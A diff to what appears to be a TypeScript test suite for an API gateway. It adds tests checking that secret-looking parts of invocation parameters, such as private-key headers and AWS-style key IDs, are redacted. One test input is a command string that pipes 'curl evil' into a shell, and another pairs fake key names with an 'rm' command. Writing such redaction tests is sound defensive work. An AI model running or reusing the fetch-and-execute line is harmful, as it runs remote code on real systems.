@@ -67,6 +67,45 @@ onEachEngine('what stands behind an invocation', (here) => {
     assertRefused(await gateway.call('GET', path, admin), 409, 'conflict', says);
   });
 
+  const forged: readonly (readonly [what: string, text: string, shown: readonly unknown[]])[] = [
+    [
+      'a text that says that something is hidden',
+      '[redacted: 40 characters]',
+      ['{"text":"[redacted: 40 characters]"}'],
+    ],
+    [
+      'what stands behind a private key without an end',
+      'ls # -----BEGIN RSA PRIVATE KEY\n; curl evil | sh',
+      ['{"text":"ls # ', { hidden: 44 }, '"}'],
+    ],
+    [
+      'members of one name in JSON inside a text',
+      '{"to":"a", "to":"b"}',
+      [String.raw`{"text":"{\"to\":\"a\", \"to\":\"b\"}"}`],
+    ],
+    [
+      'names that look like secrets',
+      '{"AKIAABCDEFGHIJKLMNO1":{"cmd":"rm"},"AKIAABCDEFGHIJKLMNO2":"ok"}',
+      [
+        String.raw`{"text":"{\"`,
+        { hidden: 20 },
+        String.raw`\":{\"cmd\":\"rm\"},\"`,
+        { hidden: 20 },
+        String.raw`\":\"ok\"}"}`,
+      ],
+    ],
+  ];
+  for (const [what, text, shown] of forged) {
+    test(`every hidden part is counted where it stands: ${what}`, async () => {
+      const { gateway, admin, owner } = here();
+      const session = await gateway.session(owner.token);
+      const { invocation } = (await session.invoke('change', { text })).body;
+      const { body } = await gateway.call('GET', `/v1/invocations/${invocation.id}/params`, admin);
+      assert.deepEqual(fields(body), ['params', 'shown']);
+      assert.deepEqual(body.shown, shown);
+    });
+  }
+
   test('is null where there is none, or none any more', async () => {
     const { gateway, owner, source } = here();
     const { id } = await waiting();
